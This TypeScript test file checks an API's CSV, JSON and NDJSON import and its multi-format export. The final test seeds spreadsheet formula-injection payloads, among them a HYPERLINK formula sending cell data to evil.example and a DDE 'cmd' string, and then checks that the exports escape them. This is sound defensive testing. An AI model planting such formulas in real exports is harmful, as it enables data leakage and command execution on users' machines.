import { parse as parseCsv } from 'csv-parse/sync';
import { parse as parseYaml } from 'yaml';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bearer, binaryBody, createFilesTestApp, type FilesTestApp } from './files-fixture.ts';

describe('/utils/import and /utils/export', () => {
  let t: FilesTestApp;
  let admin: string;

  const products = async () => (await t.request.get('/items/products?fields=sku,name,price,active,specs&sort=sku&limit=-1').set(bearer(admin)).expect(200)).body.data;
  const importFile = (body: string, filename: string, contentType: string) => t.request.post('/utils/import/products').set(bearer(admin)).attach('file', Buffer.from(body), { filename, contentType });

  beforeAll(async () => {
    t = await createFilesTestApp();
    admin = await t.login();
    await t.request
      .post('/collections')
      .set(bearer(admin))
      .send({
        collection: 'products',
        fields: [
          { field: 'sku', type: 'string', schema: { is_unique: true, max_length: 20 }, meta: { required: true } },
          { field: 'name', type: 'string' },
          { field: 'price', type: 'integer' },
          { field: 'active', type: 'boolean' },
          { field: 'specs', type: 'json' },
        ],
      })
      .expect(200);
  });
  afterAll(() => t.close());

  it('imports CSV with typed values in one transaction', async () => {
    const csv = 'sku,name,price,active,specs\nA1,"Lamp, small",1200,true,"{""watts"":5}"\nA2,Chair,4500,false,\n\nA3,Desk,,1,[]\n';
    const response = await importFile(csv, 'products.csv', 'text/csv').expect(200);
    expect(response.body.data).toEqual({ created: 3 });
    expect(await products()).toEqual([
      { sku: 'A1', name: 'Lamp, small', price: 1200, active: true, specs: { watts: 5 } },
      { sku: 'A2', name: 'Chair', price: 4500, active: false, specs: null },
      { sku: 'A3', name: 'Desk', price: null, active: true, specs: [] },
    ]);
  });

  it('reports the failing row by line and rolls the whole import back', async () => {
    const before = await products();
    const rows = Array.from({ length: 450 }, (_, index) => `B${index},Item ${index},${index},true,`);
    rows[300] = 'B300,Broken,not-a-number,true,';
    const badType = await importFile(`sku,name,price,active,specs\n${rows.join('\n')}\n`, 'bulk.csv', 'text/csv').expect(400);
    expect(badType.body.errors[0].extensions).toMatchObject({ code: 'INVALID_PAYLOAD', field: 'price', line: 302 });
    expect(badType.body.errors[0].message).toMatch(/^Line 302: /);

    const duplicate = await importFile('sku,name\nC1,One\nC2,Two\nC1,Again\n', 'dup.csv', 'text/csv').expect(400);
    expect(duplicate.body.errors[0].extensions).toMatchObject({ code: 'RECORD_NOT_UNIQUE', line: 4 });

    const unknown = await importFile('sku,colour\nD1,red\n', 'unknown.csv', 'text/csv').expect(400);
    expect(unknown.body.errors[0].extensions).toMatchObject({ field: 'colour', line: 2 });

    const ragged = await importFile('sku,name\nE1,One,extra\n', 'ragged.csv', 'text/csv').expect(400);
    expect(ragged.body.errors[0].extensions).toMatchObject({ code: 'INVALID_PAYLOAD', line: 2 });
    expect(await products()).toEqual(before);
  });

  it('imports JSON arrays and NDJSON, reporting positions and lines', async () => {
    await importFile(JSON.stringify([{ sku: 'J1', price: 5 }, { sku: 'J2', specs: { a: 1 } }]), 'items.json', 'application/json').expect(200);
    const bad = await importFile(JSON.stringify([{ sku: 'J3' }, { sku: 'J4', price: 'x' }]), 'items.json', 'application/json').expect(400);
    expect(bad.body.errors[0].extensions).toMatchObject({ field: 'price', line: 2 });
    await importFile('{"sku":"N1"}\n\n{"sku":"N2","active":true}\n', 'items.ndjson', 'application/x-ndjson').expect(200);
    const badLine = await importFile('{"sku":"N3"}\n{oops\n', 'items.ndjson', 'application/x-ndjson').expect(400);
    expect(badLine.body.errors[0].extensions).toMatchObject({ line: 2 });
    expect((await products()).map((item: { sku: string }) => item.sku)).toEqual(expect.arrayContaining(['J1', 'J2', 'N1', 'N2']));
    expect((await products()).map((item: { sku: string }) => item.sku)).not.toContain('J3');
  });

  it('refuses other formats, unknown collections and callers without create permission', async () => {
    await importFile('<xml/>', 'items.xml', 'application/xml').expect(415);
    await t.request.post('/utils/import/nope').set(bearer(admin)).attach('file', Buffer.from('a\n1\n'), 'x.csv').expect(403);
    await t.request.post('/utils/import/products').attach('file', Buffer.from('sku\nZ1\n'), 'x.csv').expect(403);
    expect((await products()).map((item: { sku: string }) => item.sku)).not.toContain('Z1');
  });

  it('exports a query to a file in files (CSV, JSON, YAML, XML) and reads exports with ?export=', async () => {
    const csvFile = (await t.request.post('/utils/export/products').set(bearer(admin)).send({ format: 'csv', query: { fields: ['sku', 'price'], filter: { sku: { _in: ['A1', 'A2'] } }, sort: ['sku'] }, file: { title: 'Product list' } }).expect(200)).body.data;
    expect(csvFile).toMatchObject({ title: 'Product list', type: 'text/csv', filename_download: expect.stringMatching(/^products-\d{4}-\d{2}-\d{2}\.csv$/) });
    const csv = (await binaryBody(t.request.get(`/assets/${csvFile.id}`).set(bearer(admin))).expect(200)).body.toString();
    expect(parseCsv(csv, { columns: true })).toEqual([{ sku: 'A1', price: '1200' }, { sku: 'A2', price: '4500' }]);

    const jsonFile = (await t.request.post('/utils/export/products').set(bearer(admin)).send({ format: 'json', query: { fields: ['sku'], sort: ['sku'], limit: 2 } }).expect(200)).body.data;
    expect(jsonFile.type).toBe('application/json');
    expect(JSON.parse((await binaryBody(t.request.get(`/assets/${jsonFile.id}`).set(bearer(admin))).expect(200)).body.toString())).toEqual([{ sku: 'A1' }, { sku: 'A2' }]);

    const yamlFile = (await t.request.post('/utils/export/products').set(bearer(admin)).send({ format: 'yaml', query: { fields: ['sku'], filter: { sku: { _eq: 'A3' } } } }).expect(200)).body.data;
    expect(parseYaml((await binaryBody(t.request.get(`/assets/${yamlFile.id}`).set(bearer(admin))).expect(200)).body.toString())).toEqual([{ sku: 'A3' }]);

    const xmlFile = (await t.request.post('/utils/export/products').set(bearer(admin)).send({ format: 'xml', query: { fields: ['sku'], filter: { sku: { _eq: 'A3' } } } }).expect(200)).body.data;
    expect(xmlFile).toMatchObject({ type: 'application/xml', filename_download: expect.stringMatching(/^products-\d{4}-\d{2}-\d{2}\.xml$/) });
    expect((await binaryBody(t.request.get(`/assets/${xmlFile.id}`).set(bearer(admin))).expect(200)).body.toString()).toContain('<data>\n        <sku>A3</sku>\n    </data>');
    const refused = await t.request.post('/utils/export/products').set(bearer(admin)).send({ format: 'pdf' }).expect(400);
    expect(refused.body.errors[0].extensions).toMatchObject({ code: 'INVALID_PAYLOAD', field: 'format' });
    const read = await t.request.get('/items/products?fields=sku&filter[sku][_eq]=A1&export=yaml').set(bearer(admin)).expect(200);
    expect(parseYaml(read.text)).toEqual([{ sku: 'A1' }]);
  });

  it('escapes spreadsheet formulas in CSV exports (?export=csv and /utils/export), leaving numbers alone', async () => {
    const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+2', '-2+3+cmd|\' /C calc\'!A0', '@SUM(A1:A9)', '\t=1', '\r=1', '\uFF1D1+1'];
    for (const [index, name] of hostile.entries()) await t.request.post('/items/products').set(bearer(admin)).send({ sku: `F${index}`, name, price: -5 }).expect(200);
    const filter = encodeURIComponent(JSON.stringify({ sku: { _starts_with: 'F' } }));
    const read = await t.request.get(`/items/products?fields=sku,name,price&sort=sku&filter=${filter}&export=csv`).set(bearer(admin)).expect(200);
    const expected = hostile.map((name, index) => ({ sku: `F${index}`, name: `'${name}`, price: '-5' }));
    expect(parseCsv(read.text, { columns: true })).toEqual(expected);
    const file = (await t.request.post('/utils/export/products').set(bearer(admin)).send({ format: 'csv', query: { fields: ['sku', 'name', 'price'], sort: ['sku'], filter: { sku: { _starts_with: 'F' } } } }).expect(200)).body.data;
    const stored = (await binaryBody(t.request.get(`/assets/${file.id}`).set(bearer(admin))).expect(200)).body.toString();
    expect(parseCsv(stored, { columns: true })).toEqual(expected);
  });
});
